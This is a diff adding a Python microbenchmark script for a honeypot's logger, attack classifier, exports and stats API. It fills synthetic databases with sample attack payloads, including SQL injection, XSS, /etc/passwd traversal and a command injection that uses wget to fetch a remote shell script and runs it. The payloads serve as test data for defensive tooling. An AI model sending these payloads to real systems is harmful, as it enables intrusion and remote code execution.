@@ -0,0 +1,357 @@
+"""
+Microbenchmarks - logger, statistics, export, classifier and /api/stats at scale
+
+Generates synthetic attacks databases (cached between runs), times the hot
+paths against each size and writes a JSON report. --diff compares two reports
+(or this run against a previous one) and flags regressions.
+
+Usage:
+    python benchmarks/bench_micro.py                         # 10k and 100k rows
+    python benchmarks/bench_micro.py --sizes 10k,1m,10m
+    python benchmarks/bench_micro.py --diff benchmarks/results/micro-old.json
+    python benchmarks/bench_micro.py --diff old.json new.json   # compare only, no run
+"""
+import argparse
+import contextlib
+import io
+import json
+import os
+import platform
+import random
+import shutil
+import sqlite3
+import statistics
+import subprocess
+import sys
+import tempfile
+import time
+import tracemalloc
+from datetime import datetime, timedelta
+
+sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
+
+from logger_module import HoneypotLogger
+from honeypot_server import HoneypotServer
+
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+
+SERVICES = [('SSH', 2222, 22), ('Telnet', 2323, 23), ('HTTP', 8000, 80), ('HTTPS', 8443, 443),
+            ('MySQL', 33060, 3306), ('HTTP-Proxy', 8080, 8080), ('FTP', 2121, 21)]
+TYPES = ['connection_attempt', 'brute_force', 'web_scan', 'sql_injection', 'xss_attempt',
+         'directory_traversal', 'command_injection', 'database_probe']
+SEVERITIES = ['low'] * 6 + ['medium'] * 3 + ['high']
+PAYLOADS = [
+    '',
+    'SSH-2.0-libssh2_1.9.0',
+    'GET / HTTP/1.1\r\nHost: target\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n',
+    "GET /products?id=1' UNION SELECT username,password FROM users-- HTTP/1.1\r\nHost: target\r\n\r\n",
+    'GET /search?q=<script>alert(document.cookie)</script> HTTP/1.1\r\nHost: target\r\n\r\n',
+    'GET /../../../../etc/passwd HTTP/1.1\r\nHost: target\r\n\r\n',
+    'USER anonymous\r\nPASS guest@example.com\r\n',
+    'root\r\n123456\r\n',
+    'GET /cgi-bin/;wget http://198.51.100.7/x.sh;sh x.sh HTTP/1.0\r\n\r\n',
+    'POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=admin&pass=admin',
+]
+
+# Metric name suffix -> which direction is better
+HIGHER_IS_BETTER = ('_ops',)
+
+
+def parse_size(text):
+    text = text.strip().lower()
+    scale = {'k': 1000, 'm': 1000000}.get(text[-1], 1)
+    return int(float(text.rstrip('km')) * scale)
+
+
+def size_label(n):
+    return f"{n // 1000000}m" if n >= 1000000 and n % 1000000 == 0 else f"{n // 1000}k" if n % 1000 == 0 else str(n)
+
+
+# ---------- data ----------
+
+def generate_db(path, rows, ips=None, seed=1):
+    """Synthetic attacks database with the logger's schema"""
+    with contextlib.redirect_stdout(io.StringIO()):
+        HoneypotLogger(db_path=path, log_file=os.devnull)
+    rng = random.Random(seed)
+    ips = ips or max(100, rows // 20)
+    sources = [f"10.{i >> 16 & 255}.{i >> 8 & 255}.{i & 255}" for i in range(ips)]
+    start = datetime.now() - timedelta(days=30)
+    step = 30 * 86400.0 / rows
+
+    def row(i):
+        service, port, simulated = rng.choice(SERVICES)
+        payload = rng.choice(PAYLOADS)
+        return (
+            (start + timedelta(seconds=i * step)).strftime('%Y-%m-%d %H:%M:%S'),
+            rng.choice(TYPES),
+            sources[int(rng.paretovariate(1.1)) % ips],
+            rng.randrange(1024, 65536), port, simulated, service, payload, len(payload),
+            rng.choice(SEVERITIES), '', i, 1.0
+        )
+
+    conn = sqlite3.connect(path)
+    conn.execute('PRAGMA synchronous=OFF')  # generation only, not persisted in the file
+    for offset in range(0, rows, 100000):
+        conn.executemany('''
+            INSERT INTO attacks (timestamp, type, source_ip, source_port, target_port, simulated_port,
+                                 service, payload, payload_size, severity, user_agent, connection_id, sample_rate)
+            VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
+        ''', (row(i) for i in range(offset, min(rows, offset + 100000))))
+        conn.commit()
+    conn.close()
+
+
+def dataset(rows, cache_dir):
+    """Path of a cached synthetic database with `rows` attacks"""
+    os.makedirs(cache_dir, exist_ok=True)
+    path = os.path.join(cache_dir, f"attacks-{size_label(rows)}.db")
+    if not os.path.exists(path):
+        print(f"  generating {rows:,} rows -> {path}")
+        start = time.perf_counter()
+        generate_db(path + '.tmp', rows)
+        os.replace(path + '.tmp', path)
+        print(f"  generated in {time.perf_counter() - start:.1f}s")
+    return path
+
+
+# ---------- timing helpers ----------
+
+def best_ms(fn, repeat=3):
+    """Best wall time of `repeat` calls, in milliseconds"""
+    times = []
+    for _ in range(repeat):
+        start = time.perf_counter()
+        fn()
+        times.append(time.perf_counter() - start)
+    return round(min(times) * 1000, 3)
+
+
+def ops_per_sec(fn, args_list, min_time=0.5):
+    count, start = 0, time.perf_counter()
+    while True:
+        for args in args_list:
+            fn(*args)
+        count += len(args_list)
+        elapsed = time.perf_counter() - start
+        if elapsed >= min_time:
+            return round(count / elapsed)
+
+
+def timed_with_peak(fn):
+    """(milliseconds, peak traced MB) of one call"""
+    tracemalloc.start()
+    start = time.perf_counter()
+    fn()
+    elapsed = time.perf_counter() - start
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    return round(elapsed * 1000, 1), round(peak / 1048576, 1)
+
+
+def sample_attack(rng, i):
+    service, port, simulated = rng.choice(SERVICES)
+    payload = rng.choice(PAYLOADS)
+    return {
+        # Loopback sources: log_attack skips the per-new-IP network enrichment lookup,
+        # which would otherwise dominate (and make the number depend on the network)
+        'type': rng.choice(TYPES), 'source_ip': f"127.16.{rng.randrange(256)}.{rng.randrange(256)}",
+        'source_port': rng.randrange(1024, 65536), 'target_port': port, 'simulated_port': simulated,
+        'service': service, 'timestamp': datetime.now().isoformat(), 'severity': rng.choice(SEVERITIES),
+        'payload': payload, 'payload_size': len(payload), 'user_agent': '', 'connection_id': i
+    }
+
+
+# ---------- benchmarks ----------
+
+def bench_classifier():
+    server = HoneypotServer(ports=[])
+    cases = [(p, port) for p in PAYLOADS for _, port, _ in SERVICES]
+    return {
+        'analyze_severity_ops': ops_per_sec(server._analyze_severity, cases),
+        'detect_attack_type_ops': ops_per_sec(server._detect_attack_type, cases),
+        'extract_user_agent_ops': ops_per_sec(server._extract_user_agent, [(p,) for p in PAYLOADS]),
+    }
+
+
+def bench_size(rows, source_db, workdir, args, api):
+    # Work on a copy: log_attack appends rows
+    db_path = os.path.join(workdir, f"bench-{size_label(rows)}.db")
+    shutil.copyfile(source_db, db_path)
+    results = {}
+
+    start = time.perf_counter()
+    with contextlib.redirect_stdout(io.StringIO()):
+        logger = HoneypotLogger(db_path=db_path, log_file=os.path.join(workdir, 'honeypot.log'))
+    results['logger_init_ms'] = round((time.perf_counter() - start) * 1000, 1)
+
+    rng = random.Random(7)
+    attacks = [sample_attack(rng, i) for i in range(args.log_ops)]
+    start = time.perf_counter()
+    with contextlib.redirect_stdout(io.StringIO()):
+        for attack in attacks:
+            logger.log_attack(attack)
+    results['log_attack_ops'] = round(len(attacks) / (time.perf_counter() - start))
+
+    results['get_statistics_ms'] = best_ms(logger.get_statistics)
+    results['get_recent_attacks_ms'] = best_ms(lambda: logger.get_recent_attacks(limit=100))
+    results['get_alerts_ms'] = best_ms(lambda: logger.get_alerts(limit=50))
+
+    if rows <= args.export_max:
+        for fmt in ('json', 'csv'):
+            ms, peak = timed_with_peak(lambda: logger.export_attacks(format=fmt))
+            results[f'export_{fmt}_ms'] = ms
+            results[f'export_{fmt}_peak_mb'] = peak
+    else:
+        results['export_skipped'] = f"more than --export-max {args.export_max:,} rows"
+
+    if api is not None:
+        results.update(api(logger))
+    # Write out deferred state now, the work directory is gone by exit time
+    logger.flush_attackers()
+    logger.flush_sessions()
+    logger.flush_clusters()
+    return results
+
+
+def make_api_bench(workdir):
+    """/api/stats through the Flask test client, with app.py's live stats seeded from each dataset"""
+    cwd = os.getcwd()
+    os.makedirs(os.path.join(workdir, 'app'), exist_ok=True)
+    os.chdir(os.path.join(workdir, 'app'))
+    try:
+        with contextlib.redirect_stdout(io.StringIO()):
+            import app as sentinel_app
+    finally:
+        os.chdir(cwd)
+    # Live stats are reseeded per dataset and the work directory is gone by exit time: no snapshot saves
+    sentinel_app.state_snapshot.saves = False
+    client = sentinel_app.app.test_client()
+
+    def run(logger):
+        sentinel_app.logger = logger
+        start = time.perf_counter()
+        sentinel_app.live_stats.reset()
+        sentinel_app.live_stats.seed(
+            logger.get_statistics(),
+            ip_counts={r.ip: r.total for r in list(logger.attackers.records.values())}
+        )
+        seed_ms = round((time.perf_counter() - start) * 1000, 1)
+        rng = random.Random(3)
+        for i in range(sentinel_app.recent_attacks.capacity):
+            sentinel_app.publish_attack(sample_attack(rng, i))
+
+        def get():
+            response = client.get('/api/stats')
+            assert response.status_code == 200
+        get()
+        times = []
+        for _ in range(50):
+            start = time.perf_counter()
+            get()
+            times.append(time.perf_counter() - start)
+        return {'live_stats_seed_ms': seed_ms,
+                'api_stats_p50_ms': round(statistics.median(times) * 1000, 3),
+                'api_stats_max_ms': round(max(times) * 1000, 3)}
+    return run
+
+
+# ---------- reporting ----------
+
+def git_version():
+    try:
+        return subprocess.check_output(['git', 'describe', '--always', '--dirty'], cwd=ROOT,
+                                       stderr=subprocess.DEVNULL).decode().strip()
+    except Exception:
+        return None
+
+
+def flatten(report):
+    metrics = {f"classifier.{k}": v for k, v in report.get('classifier', {}).items()}
+    for size, values in report.get('sizes', {}).items():
+        for k, v in values.items():
+            if isinstance(v, (int, float)):
+                metrics[f"{size}.{k}"] = v
+    return metrics
+
+
+def diff(old, new, threshold=10.0):
+    """Print metric changes; returns the number of regressions beyond threshold %"""
+    a, b = flatten(old), flatten(new)
+    print(f"\n{'metric':<40} {old.get('version') or 'old':>14} {new.get('version') or 'new':>14}   change")
+    regressions = 0
+    for key in sorted(set(a) & set(b)):
+        before, after = a[key], b[key]
+        change = (after - before) / before * 100 if before else 0.0
+        worse = -change if key.endswith(HIGHER_IS_BETTER) else change
+        flag = ''
+        if worse > threshold:
+            flag = '  REGRESSION'
+            regressions += 1
+        elif worse < -threshold:
+            flag = '  improved'
+        print(f"{key:<40} {before:>14} {after:>14}   {change:+6.1f}%{flag}")
+    return regressions
+
+
+def main():
+    parser = argparse.ArgumentParser(description='Sentinel microbenchmarks')
+    parser.add_argument('--sizes', default='10k,100k', help='Comma-separated row counts (10k, 1m, 10m)')
+    parser.add_argument('--log-ops', type=int, default=2000, help='log_attack calls per size')
+    parser.add_argument('--export-max', type=parse_size, default=parse_size('1m'),
+                        help='Skip exports above this many rows')
+    parser.add_argument('--no-api', action='store_true', help='Skip the Flask /api/stats benchmark')
+    parser.add_argument('--cache-dir', default=os.path.join(tempfile.gettempdir(), 'sentinel-bench'),
+                        help='Where generated databases are kept between runs')
+    parser.add_argument('--out', help='Report file (default benchmarks/results/micro-<time>.json)')
+    parser.add_argument('--diff', nargs='+', metavar='REPORT',
+                        help='Compare with a previous report (two reports: compare only)')
+    parser.add_argument('--threshold', type=float, default=10.0, help='Regression threshold in percent')
+    args = parser.parse_args()
+
+    if args.diff and len(args.diff) == 2:
+        with open(args.diff[0]) as f_old, open(args.diff[1]) as f_new:
+            sys.exit(1 if diff(json.load(f_old), json.load(f_new), args.threshold) else 0)
+
+    sizes = [parse_size(s) for s in args.sizes.split(',')]
+    report = {
+        'version': git_version(),
+        'created': datetime.now().isoformat(timespec='seconds'),
+        'python': platform.python_version(),
+        'platform': platform.platform(),
+        'sizes': {},
+    }
+
+    print("Classifier")
+    report['classifier'] = bench_classifier()
+    for k, v in report['classifier'].items():
+        print(f"  {k:<28} {v:>12,}")
+
+    workdir = tempfile.mkdtemp(prefix='sentinel-micro-')
+    try:
+        api = None if args.no_api else make_api_bench(workdir)
+        for rows in sizes:
+            print(f"\n{rows:,} rows")
+            source = dataset(rows, args.cache_dir)
+            results = bench_size(rows, source, workdir, args, api)
+            report['sizes'][size_label(rows)] = results
+            for k, v in results.items():
+                print(f"  {k:<28} {v:>12,}" if isinstance(v, (int, float)) else f"  {k:<28} {v}")
+    finally:
+        shutil.rmtree(workdir, ignore_errors=True)
+
+    out = args.out or os.path.join(ROOT, 'benchmarks', 'results',
+                                   f"micro-{datetime.now().strftime('%Y%m%d-%H%M%S')}.json")
+    os.makedirs(os.path.dirname(os.path.abspath(out)), exist_ok=True)
+    with open(out, 'w', encoding='utf-8') as f:
+        json.dump(report, f, indent=2)
+    print(f"\n[✓] Report saved to {out}")
+
+    if args.diff:
+        with open(args.diff[0]) as f:
+            sys.exit(1 if diff(json.load(f), report, args.threshold) else 0)
+
+
+if __name__ == '__main__':
+    main()